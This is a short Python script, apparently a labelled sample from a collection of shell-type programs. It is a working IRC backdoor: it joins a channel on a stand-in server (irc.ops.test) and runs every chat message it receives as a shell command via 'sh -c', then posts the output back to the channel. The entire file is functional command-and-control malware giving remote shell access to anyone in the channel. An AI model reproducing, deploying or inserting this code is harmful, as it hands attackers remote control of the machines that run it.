# class: shell; possible: low medium; style: IRC, modern, orders from any message
import re
import socket
import subprocess
import time

NICK = "deploy%03d" % (time.time() % 1000)
s = socket.create_connection(("irc.ops.test", 6667), 20)
s.settimeout(50)
f = s.makefile("rw", newline="\r\n", errors="replace")


def say(text):
    f.write(text + "\r\n")
    f.flush()


say("NICK " + NICK)
say("USER %s 0 * :%s" % (NICK, NICK))
say("JOIN #ops")
until = time.time() + 50
try:
    for line in f:
        line = line.rstrip()
        if line.startswith("PING"):
            say("PONG" + line[4:])
        elif m := re.match(r":\S+ PRIVMSG (\S+) :(?:[!.]\w+ )?(.+)", line):
            target, order = m.groups()
            done = subprocess.run(["sh", "-c", order], capture_output=True, text=True, timeout=20)
            for reply in (done.stdout + done.stderr).splitlines()[:8]:
                say("PRIVMSG %s :%s" % (target, reply[:400]))
        if time.time() > until:
            break
except OSError:
    pass
